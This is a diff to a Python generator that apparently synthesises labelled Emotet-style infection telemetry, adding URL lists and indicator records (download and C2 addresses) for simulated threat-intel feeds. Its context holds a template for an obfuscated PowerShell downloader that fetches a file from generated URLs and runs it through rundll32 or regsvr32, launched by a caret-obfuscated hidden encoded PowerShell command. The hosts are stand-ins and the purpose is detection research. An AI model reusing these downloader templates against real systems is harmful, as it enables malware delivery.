@@ -155,19 +155,22 @@ def _stager(inner: str) -> str:
             "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();")
 
 
-def _emotet_script(rng: random.Random, out_expr: str, start: str) -> tuple[str, list[str]]:
+def _emotet_script(rng: random.Random, out_expr: str, start: str
+                   ) -> tuple[str, list[str], list[str]]:
     """An Emotet-style downloader: a list of URLs split apart, each tried until a download
-    succeeds, the file saved under the profile and started. Returns (script, site names)."""
+    succeeds, the file saved under the profile and started. Returns (script, site names,
+    URLs)."""
     sites = [_site(rng)[0] for _ in range(rng.randrange(3, 6))]
-    urls = "@".join(f"http://{s}/{rng.choice(['wp-content', 'wp-admin', 'images', 'css'])}/"
-                    f"{_name(rng, rng.randrange(3, 8))}/" for s in sites)
+    url_list = [f"http://{s}/{rng.choice(['wp-content', 'wp-admin', 'images', 'css'])}/"
+                f"{_name(rng, rng.randrange(3, 8))}/" for s in sites]
+    urls = "@".join(url_list)
     lst, out, wc, u = _var(rng), _var(rng), _var(rng), _var(rng)
     split, dl = _mixcase(rng, "Split"), _mixcase(rng, "DownloadFile")
     script = (f"{_var(rng)}='{_name(rng, 9)}';{lst}='{urls}'.{split}('@');{out}={out_expr};"
               f"{wc}=&('New-Ob'+'ject') Net.WebClient;foreach({u} in {lst}){{try{{"
               f"{wc}.{dl}({u},{out});If((Get-Item {out}).Length -ge {rng.randrange(30, 90)}000)"
               f"{{{start.format(out=out)};break}}}}catch{{}}}}")
-    return script, sites
+    return script, sites, url_list
 
 
 def _payload(rng: random.Random) -> tuple[str, str, str]:
@@ -460,7 +463,7 @@ def emotet(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
         start = ("Start-Process rundll32.exe -ArgumentList ('\"'+{out}+'\",Control_RunDLL')"
                  if variant == "rundll32" else
                  "Start-Process regsvr32.exe -ArgumentList ('/s \"'+{out}+'\"')")
-    script, sites = _emotet_script(rng, out_expr, start)
+    script, sites, urls = _emotet_script(rng, out_expr, start)
     b64 = encode(script)
     if variant == "exe":  # 2018: cmd with carets in between
         line = f"cmd.exe /c p^o^w^e^r^s^h^e^l^l -nop -w hidden -e {b64}"
@@ -477,7 +480,8 @@ def emotet(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
     tl.script(host, ps, script, c.tick(), label=c.label(
         "script block: downloader", *_EXEC_2ND, reveals="emotet"))
     ip = f"{rng.choice(_TEST_NETS)}{rng.randrange(2, 250)}"
-    tl.connect(host, ps, ip, 80, c.tick(), sites[0], label=c.label("connection"))
+    dl_ts = c.tick()
+    tl.connect(host, ps, ip, 80, dl_ts, sites[0], label=c.label("connection"))
     tl.file(host, ps, saved, c.tick(), label=c.label("file written"))
     loader = image_hashes(saved.rsplit("\\", 1)[-1], c.id)
     if variant == "exe":
@@ -493,8 +497,14 @@ def emotet(tl, rng, host, ts, chain, peers) -> MacroDocument | None:
     else:
         bot = c.spawn(ps, f"{SYSTEM32}\\regsvr32.exe", f'regsvr32.exe /s "{saved}"', "regsvr32",
                       "T1218.010")
-    tl.connect(host, bot, f"{rng.choice(_TEST_NETS)}{rng.randrange(2, 250)}",
-               rng.choice([443, 8080, 7080]), c.tick(20_000, 90_000), label=c.label("connection"))
+    c2_ip = f"{rng.choice(_TEST_NETS)}{rng.randrange(2, 250)}"
+    c2_port = rng.choice([443, 8080, 7080])
+    c2_ts = c.tick(20_000, 90_000)
+    tl.connect(host, bot, c2_ip, c2_port, c2_ts, label=c.label("connection"))
+    # the chain's indicators, for the threat-intel feeds (``intel``); no draw
+    tl.iocs.append({"family": "emotet", "host": host.name, "urls": urls,
+                    "download": {"ip": ip, "port": 80, "site": sites[0], "ts_ms": dl_ts},
+                    "c2": {"ip": c2_ip, "port": c2_port, "ts_ms": c2_ts}})
     return c.doc
 
 
